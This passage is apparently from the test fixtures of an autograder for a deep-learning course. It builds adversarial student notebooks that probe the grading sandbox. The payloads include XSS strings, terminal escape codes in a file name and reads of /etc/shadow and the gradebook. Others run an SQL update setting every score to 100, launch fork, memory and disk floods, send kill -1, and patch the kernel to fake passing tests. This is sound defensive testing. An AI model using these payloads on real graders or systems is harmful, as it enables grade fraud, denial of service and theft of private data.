'''

CONNECTION_FOLDER = '''
import os as _os
from ipykernel.kernelapp import IPKernelApp as _App
_folder = _os.path.dirname(_App.instance().connection_file)
print("CONN", _folder)
for _attempt in ("write", "mkdir", "chmod"):
    try:
        if _attempt == "write":
            with open(_os.path.join(_folder, "fill.bin"), "wb") as _f:
                _f.write(bytes(2**20))
        elif _attempt == "mkdir":
            _os.mkdir(_os.path.join(_folder, "deep"))
        else:
            _os.chmod(_folder, 0o777)
        print("ALLOWED", _attempt)
    except OSError as _error:
        print("BLOCKED", _attempt, _error.strerror)
'''

SCRIPT_OUTPUTS = '''
from IPython.display import HTML, Image, display
display(HTML("<script>alert('t51-output')</script><b>bold</b>"))
_png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                     "1f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a2d00000000049454e44ae426082")
display(Image(data=_png, format="png", metadata={"width": "1 onerror=alert('t51-metadata')"}))
'''
SCRIPT_MARKDOWN = ("<script>alert('t51-markdown')</script><img src=x onerror=alert('t51-img')> my notes, "
                   "[Figure 1](javascript:alert('t51-link')), [Figure 2](files/JaVaScRiPt:alert('t51-files')) and "
                   "![plot](data:text/html,t51-data)")

TRACER = '''
class _Tracer:
    """Hands itself to the test's function, to watch what it does (the exchange must refuse it)."""

    def __getattr__(self, name):
        print("TRACED", name)
        return self

    def __call__(self, *args, **kwargs):
        print("TRACED call")
        return self

    __add__ = __sub__ = __mul__ = __gt__ = __ge__ = __getitem__ = __call__


def _watch(gate_fn):
    try:
        gate_fn(_Tracer())
        print("ACCEPTED the tracer")
    except Exception as _error:
        print("REFUSED", type(_error).__name__)
'''


def _insert_after_docstring(code: str, extra: str) -> str:
    """``extra`` (indented function-body lines) placed right after the first function's docstring in ``code``."""
    changed = re.sub(r'(def \w+\(.*?\):\n    """.*?"""\n)', lambda m: m.group(1) + extra.strip("\n") + "\n",
                     code, count=1, flags=re.S)
    assert changed != code, "could not change the answer: update tests/dlcourse/grading/cases"
    return changed


def _nesting_bomb() -> bytes:
    """The correct notebook with one cell's metadata nested 100 000 lists deep."""
    text = _bytes(filled())
    marker = b'"metadata": {'
    at = text.index(marker) + len(marker)
    return text[:at] + b'"bomb": ' + b"[" * 100_000 + b"]" * 100_000 + b", " + text[at:]


def _huge_number() -> bytes:
    """The correct notebook with a 5000-digit number in its metadata."""
    text = _bytes(filled())
    marker = b'"metadata": {'
    at = text.index(marker) + len(marker)
    return text[:at] + b'"big": ' + b"9" * 5000 + b", " + text[at:]


FLOOD_MB = 80
"""Each flood case sends this many MiB: more than the 64 MiB a kernel may send per notebook (Limits.received_mb)."""

FORKS, FORK_MB = 5, 900
"""t38-fork-memory: five children of 900 MiB each, under the 3 GiB per process, over the sandbox's 3 GiB together."""


def red_team_cases(marker_dir: Path) -> list[Case]:
    """GRADING_THREATS #28-#47: one student per attack (several where the catalogue names several ways)."""
    answers = correct_answers()
    flood = {"FLOOD_MB": str(FLOOD_MB)}

    def put(code: str, values: dict[str, str]) -> str:
        for key, value in values.items():
            code = code.replace(key, value)
        return code

    module_files = _notebook_case("t28-module-files", "#28", "a correct notebook beside course_utils.py, numpy.py, "
                                  "sitecustomize.py, nbgrader/__init__.py and x.pth, each writing a marker on the "
                                  "grading machine when imported", filled())
    for name in MODULE_FILES:
        code = _marker(marker_dir, name.replace("/", "-"))
        if name.endswith(".pth"):
            code = f"import os; exec({code!r})\n"
        module_files.files[name] = code.encode()
    only_course_utils = _notebook_case("t28-course-utils", "#28", "a correct notebook beside a course_utils.py "
                                       "that writes a marker when imported", filled())
    only_course_utils.files["course_utils.py"] = _marker(marker_dir, "course_utils-only.py").encode()

    forever = _insert_after_docstring(answers["heaviside"], SLEEPS_FOREVER)
    huge = _insert_after_docstring(answers["heaviside"], HUGE_RESULT)
    reach = (REACH_TESTS.strip("\n") + "\n\n\n"
             + _insert_after_docstring(answers["heaviside"], REACH_TESTS_CALL))
    honest_line = ("\n\ndef _try_on_a_random_batch():\n    \"\"\"My own experiment (not a test).\"\"\"\n"
                   "    rng = np.random.default_rng(4)\n    X = rng.normal(size=(50, 5))\n"
                   "    return neuron(X, np.ones(5), 0.0)\n\n\nprint(_try_on_a_random_batch().mean())\n")

    return [
        module_files,
        only_course_utils,
        _cheat("t29-session-send", "#29", "wraps the kernel's session.send: error messages and stderr dropped, "
               "failed execute replies made ok", SESSION_SEND),
        _cheat("t30-ast-parse", "#30", "replaces get_ipython().compile.ast_parse: every later cell runs in "
               "try/except", AST_PARSE),
        _cheat("t30-ast-transformer", "#30", "an AST transformer: every later cell runs in try/except",
               AST_TRANSFORMER),
        _cheat("t30-settrace", "#30", "a hidden sys.settrace that makes every check's expected value equal what "
               "it got", SETTRACE),
        _cheat("t31-displayhook", "#31", "heaviside publishes an execute_result '1' (and a display) while a test "
               "calls it", "", heaviside=DISPLAYHOOK),
        _cheat("t32-grader-code", "#32", "patches course_utils.checks (np.any always False) and "
               "dlcourse.grading.subject (errors answered as True) in its kernel", GRADER_CODE),
        _cheat("t32-ctypes-float", "#32", "clears float's immutable-type flag with ctypes and makes float.__eq__ "
               "always True", CTYPES_FLOAT),
        _cheat("t32-builtins-dict", "#32", "replaces __builtins__ with a dict whose isinstance, bool and abs lie",
               BUILTINS_DICT),
        _cheat("t33-lying-objects", "#33", "returns an ndarray subclass whose == lies, an object equal to "
               "anything, and (with right majority weights) an int equal to every number from rows_correct", "",
               heaviside=LYING_OBJECTS, changes={
                   "neuron": "def neuron(x, w, w0):\n    return _Anything()\n", "majority": LYING_MAJORITY}),
        _notebook_case("t34-star-import", "#34 (honest)", "every answer right, after `from numpy import *`",
                       filled({"heaviside": STAR_IMPORT + answers["heaviside"]})),
        _notebook_case("t34-own-assert-close", "#34 (honest)", "every answer right, with its own assert_close "
                       "self-check", filled({"heaviside": answers["heaviside"] + OWN_ASSERT_CLOSE})),
        _cheat("t34-helper-rebound", "#34", "wrong gate_weights whose every call rebinds the tests' helper "
               "_gate_outputs to one that gives the right truth table", "", changes={"gate_weights": HELPER_REBOUND}),
        _cheat("t35-read-tests", "#35", "heaviside prints, base64-encoded, what frames, inspect.stack(), "
               "linecache and gc hold that looks like test code, whenever a test calls it", "", heaviside=READ_TESTS),
        _cheat("t36-tracebacks", "#36", f"writes {FLOOD_MB} MiB of tracebacks to stderr, one message each",
               put(FLOOD_TRACEBACKS, flood)),
        _cheat("t36-display-updates", "#36", f"while a test calls it, updates a display {FLOOD_MB} times with "
               "1 MiB", "", heaviside=put(FLOOD_UPDATES, flood)),
        _cheat("t36-widget-state", "#36", f"changes an ipywidgets Textarea {FLOOD_MB} times with 1 MiB of state",
               put(FLOOD_WIDGET, flood)),
        _cheat("t36-metadata", "#36", f"{FLOOD_MB} displays, each with 1 MiB of metadata", put(FLOOD_METADATA, flood)),
        _cheat("t36-test-kernel-print", "#36", "perceptron_train answers the visible test's AND from a table and "
               "returns for XOR a weight array that the test prints whole: 24 MiB in one message of the test kernel",
               "", changes={"perceptron_train": TEST_KERNEL_PRINT}),
        _cheat("t36-huge-messages", "#36", "in its last answer cell, prints 30 MiB three times, each in one message "
               "(90 MiB in all)", "", changes={"majority": FLOOD_HUGE_MESSAGES}),
        _cheat("t37-file-descriptors", "#37", "lists /proc/self/fd, writes and truncates every descriptor, writes a "
               "'sandbox:' line to stderr and exits", FILE_DESCRIPTORS),
        _cheat("t38-fill-disk", "#38", "fills the working copy and /tmp with 4 MiB files until the disk is full",
               FILL_DISK),
        _cheat("t38-fork-memory", "#38", f"forks {FORKS} children of {FORK_MB} MiB each",
               put(FORK_MEMORY, {"FORKS": str(FORKS), "FORK_MB": str(FORK_MB)})),
        Case("t39-nesting-bomb", "#39", "the correct notebook with lists nested 100 000 deep in a cell's metadata",
             {NOTEBOOK: _nesting_bomb()}),
        Case("t39-huge-number", "#39", "the correct notebook with a 5000-digit number in a cell's metadata",
             {NOTEBOOK: _huge_number()}),
        _notebook_case("t40-hidden-line", "#40 (honest)", "every answer right; its own experiment has the line "
                       "`rng = np.random.default_rng(4)`, which a hidden test has too",
                       filled({"neuron": answers["neuron"] + honest_line})),
        _notebook_case("t41-never-returns", "#41", "every answer right, but heaviside sleeps for ever on a 3-D "
                       "array (a hidden test)", filled({"heaviside": forever})),
        _notebook_case("t42-huge-result", "#42", "every answer right, but heaviside returns 600 MiB for a 3x4 "
                       "input (the visible test)", filled({"heaviside": huge})),
        _cheat("t43-rogue-socket", "#43", "connects to the exchange socket before any test and sends a nesting "
               "bomb, a 1 TiB buffer size and garbage", ROGUE_SOCKET),
        _cheat("t43-forged-replies", "#43", "patches Subject.answer to reply with forged callbacks, a torch module "
               "with a forward, references to objects it was never sent", FORGED_REPLIES),
        _cheat("t44-serve-replaced", "#44", "replaces dlcourse.grading.subject.serve with a no-op",
               SERVE_REPLACED),
        _notebook_case("t45-reach-tests", "#45 (honest)", "every answer right; lists /proc and /grading/rpc, "
                       "connects to sockets, sends SIGSTOP/SIGINT/SIGKILL to -1 and every pid, in its cell and "
                       "while a test calls it", filled({"heaviside": reach})),
        _cheat("t46-memory-pointer", "#46", "heaviside returns an object whose __array_interface__ points at "
               "memory holding [0, 0, 1, 1]", "", heaviside=MEMORY_POINTER),
        _cheat("t47-reseed", "#47", "heaviside re-seeds and draws from the global generators on every call",
               "", heaviside=RESEED),
        _cheat("t49-stdin-flood", "#49", "sends 8 MiB messages on the stdin and control channels, 60 times",
               STDIN_FLOOD),
        _cheat("t50-connection-folder", "#50", "writes, makes folders and changes the mode of its kernel's "
               "connection folder", CONNECTION_FOLDER),
        _script_case(answers),
        _notebook_case("t52-callback-tracer", "#52", "every answer right; truth_table first hands the test's "
                       "function an object that records what is done to it",
                       filled({"truth_table": TRACER + "\n\n" + _insert_after_docstring(
                           answers["truth_table"], "    _watch(gate_fn)\n")})),
        _notebook_case("t53-control-codes", "#53", "the right work in a file whose name holds terminal control "
                       "codes", filled(), name=CONTROL_CODES_NAME),
    ]


CONTROL_CODES_NAME = "\x1b]0;t53-title\x07\x1b[2K\rhomework\x1b[8m.ipynb"
"""The file name of t53-control-codes: sets a terminal's title, clears its line, hides what follows."""


def _script_case(answers: dict[str, str]) -> Case:
    """#51, #54: every answer right, with script and script links in a markdown cell and the free-text answer, script
    in an output and in image metadata."""
    nb = filled(_append("heaviside", SCRIPT_OUTPUTS, answers))
    nb.cells.insert(cell_index(nb, "heaviside"), nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
    nb.cells[cell_index(nb, "xor_explanation")].source = SCRIPT_MARKDOWN
    return _notebook_case("t51-script", "#51", "every answer right; script in a markdown cell, in the free-text "
                          "answer, in an HTML output and in an image's metadata", nb)


def with_slow_seconds(cases: list[Case], seconds: int) -> list[Case]:
    """Put the per-cell sleep of ``t12-notebook-limit`` (under the cell limit of the run)."""
    for case in cases:
        for name, data in case.files.items():
            case.files[name] = data.replace(b"SLOW_SECONDS", str(seconds).encode())
    return cases


# ---------------------------------------------------------------- sandbox properties (#24, #25 among them)
def _probe(code: str) -> str:
    return code.strip("\n") + "\n"


SANDBOX_FORKS, SANDBOX_FORK_MB = 6, 300
"""sbx-fork-memory: six children of 300 MiB: each (with the kernel's own data) under
tests/dlcourse/grading/test_sandbox.py's 1536 MiB per process, together over its 1536 MiB for the sandbox."""


def sandbox_cases(course: Path, other_student: str, port: int, host_marker: Path) -> list[Case]:
    """One student per sandbox property; each prints BLOCKED or LEAK/WROTE lines for the test to read.

    They know the grading machine's paths (``course``, the other student's folder, a file on the host's
    /tmp), the best a student could hope for.
    """
    paths = [course / "solutions" / ASSIGNMENT / NOTEBOOK, course / "gradebook.db",
             course / "submitted" / other_student / ASSIGNMENT / NOTEBOOK, course / "nbgrader_config.py",
             "../../../gradebook.db", f"../../../solutions/{ASSIGNMENT}/{NOTEBOOK}", "/etc/shadow",
             "/root/.bash_history"]
    read = _probe(f"""
import os
for _path in {[str(p) for p in paths]!r}:
    try:
        with open(_path, 'rb') as _f:
            print('LEAK', _path, _f.read(80))
    except Exception as _error:
        print('BLOCKED read', _path, type(_error).__name__)
print('ENV', sorted(k for k in os.environ if 'NBGRADER' in k or 'DB_URL' in k or k.startswith('PG')))
print('PROCESSES', len([p for p in os.listdir('/proc') if p.isdigit()]))
print('UID', os.getuid())
""")
    targets = [course / "gradebook.db", course / "solutions" / "planted.txt",
               course / "submitted" / other_student / ASSIGNMENT / "planted.txt", "../../../gradebook.db",
               course / "planted.txt"]
    write = _probe(f"""
import sqlite3
try:
    _db = sqlite3.connect({str(course / 'gradebook.db')!r})
    _db.execute('UPDATE grade SET auto_score = 100')
    _db.commit()
    print('WROTE gradebook')
except Exception as _error:
    print('BLOCKED sql', type(_error).__name__)
for _path in {[str(p) for p in targets]!r}:
    try:
        with open(_path, 'a') as _f:
            _f.write('planted by a student')
        print('WROTE', _path)
    except Exception as _error:
        print('BLOCKED write', _path, type(_error).__name__)
with open({str(host_marker)!r}, 'w') as _f:
    _f.write('in the sandbox /tmp only')
with open('notes.txt', 'w') as _f:
    _f.write('the working copy is writable')
print('WORKDIR', __import__('os').getcwd())
_stat = __import__('os').statvfs('.')
_mounts = [line.split() for line in open('/proc/self/mountinfo')]
_types = [m[m.index('-') + 1] for m in _mounts if m[4] == __import__('os').getcwd()]
print('WORKFS', _stat.f_blocks * _stat.f_frsize // 2**20, 'MiB', _types[-1] if _types else 'unknown')
""")
    network = _probe(f"""
import socket, urllib.request
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'LEAK from the sandbox')
    print('CONNECTED host port')
except Exception as _error:
    print('BLOCKED connect', type(_error).__name__)
try:
    socket.getaddrinfo('pypi.org', 443)
    print('RESOLVED pypi.org')
except Exception as _error:
    print('BLOCKED dns', type(_error).__name__)
try:
    urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=3)
    print('CONNECTED http')
except Exception as _error:
    print('BLOCKED http', type(_error).__name__)
""")
    memory = _probe("""
import resource
print('LIMIT data', resource.getrlimit(resource.RLIMIT_DATA)[0] // 2**20, 'MiB')
try:
    _hoard = bytearray(3 * 2**30)
    print('ALLOCATED 3 GiB')
except MemoryError:
    print('BLOCKED memory MemoryError')
""")
    cpu = _probe("""
import resource, signal
print('LIMIT cpu', resource.getrlimit(resource.RLIMIT_CPU)[0], 's', flush=True)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})  # no interrupt can stop this loop
while True:
    pass
""")
    processes = _probe("""
import os, signal, time
_children = []
try:
    for _ in range(500):
        _pid = os.fork()
        if _pid == 0:
            time.sleep(60)
            os._exit(0)
        _children.append(_pid)
    print('FORKED all', len(_children))
except OSError as _error:
    print('BLOCKED fork after', len(_children), type(_error).__name__)
for _pid in _children:
    os.kill(_pid, signal.SIGKILL)
    os.waitpid(_pid, 0)
""")
    file_size = _probe("""
try:
    with open('big.bin', 'wb') as _f:
        for _ in range(64):
            _f.write(bytes(2**20))
    print('WROTE 64 MiB')
except OSError as _error:
    print('BLOCKED file', type(_error).__name__, _error.strerror)
""")
    descriptors = _probe("""
import os
for _name in sorted(os.listdir('/proc/self/fd'), key=int):
    try:
        print('FD', _name, os.readlink(f'/proc/self/fd/{_name}'))
    except FileNotFoundError:  # the listing's own descriptor, closed by now
        pass
    except OSError as _error:
        print('FD', _name, 'unreadable', type(_error).__name__)
""")
    fill_work = _probe("""
import errno, os
_written, _i = 0, 0
try:
    while True:
        with open(f'fill-{_i:04d}.bin', 'wb') as _f:
            _f.write(bytes(4 * 2**20))
        _written, _i = _written + 4, _i + 1
except OSError as _error:
    _stat = os.statvfs('.')
    print('BLOCKED disk', errno.errorcode.get(_error.errno), 'after', _written, 'MiB of',
          _stat.f_blocks * _stat.f_frsize // 2**20, 'MiB')
for _j in range(_i + 1):
    if os.path.exists(f'fill-{_j:04d}.bin'):
        os.remove(f'fill-{_j:04d}.bin')
""")
    kill_all = _probe("""
import os, signal
print('PROCESSES', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()), 'me', os.getpid())
if os.getuid() != 0 and len([p for p in os.listdir('/proc') if p.isdigit()]) < 10:
    for _number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, _number)
            print('KILL -1 sent', int(_number))
        except OSError as _error:
            print('KILL -1 refused', int(_number), type(_error).__name__)
else:
    print('SKIPPED kill: the sandbox does not look isolated')
""")
    answers = correct_answers()
    return [
        _notebook_case("sbx-baseline", "baseline", "every answer right, under the tight limits", filled()),
        _notebook_case("sbx-read", "#24 / sandbox: read", "reads solutions, the gradebook, another student's work, "
                       "host files and the environment", filled(_append("heaviside", read, answers))),
        _notebook_case("sbx-write", "#25 / sandbox: write", "writes the gradebook (SQL and file), solutions/, "
                       "another student's folder, the course, the host's /tmp",
                       filled(_append("heaviside", write, answers))),
        _notebook_case("sbx-network", "sandbox: network", "connects to a server on the grading machine, resolves "
                       "a name", filled(_append("heaviside", network, answers))),
        _notebook_case("sbx-memory", "sandbox: memory", "allocates 3 GiB", filled(_append("heaviside", memory,
                                                                                           answers))),
        _notebook_case("sbx-cpu", "sandbox: CPU time", "an uninterruptible busy loop in the last answer cell",
                       filled(_append("majority", cpu, answers))),
        _notebook_case("sbx-processes", "sandbox: processes", "forks 500 processes in the last answer cell",
                       filled(_append("majority", processes, answers))),
        _notebook_case("sbx-file-size", "sandbox: output size", "writes a 64 MiB file",
                       filled(_append("heaviside", file_size, answers))),
        _notebook_case("sbx-descriptors", "#37 / sandbox: inherited files", "lists its open file descriptors",
                       filled(_append("heaviside", descriptors, answers))),
        _notebook_case("sbx-fill-work", "#38 / sandbox: disk", "fills its working copy with 4 MiB files",
                       filled(_append("heaviside", fill_work, answers))),
        _notebook_case("sbx-fork-memory", "#38 / sandbox: memory of all processes", f"forks {SANDBOX_FORKS} "
                       f"children of {SANDBOX_FORK_MB} MiB each in the last answer cell",
                       filled(_append("majority", FORK_MEMORY.replace("FORKS", str(SANDBOX_FORKS))
                                      .replace("FORK_MB", str(SANDBOX_FORK_MB)), answers))),
        _notebook_case("sbx-kill-all", "#45 / sandbox: signals", "sends SIGSTOP and SIGKILL to every process it "
                       "may signal (kill -1)", filled(_append("heaviside", kill_all, answers))),
    ]


def write_class(cases: list[Case], dest: Path) -> Path:
    """Write the cases in the "folders" layout: ``dest/<student>/<file>``."""
    for case in cases:
        folder = dest / case.student
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in case.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)
    return dest
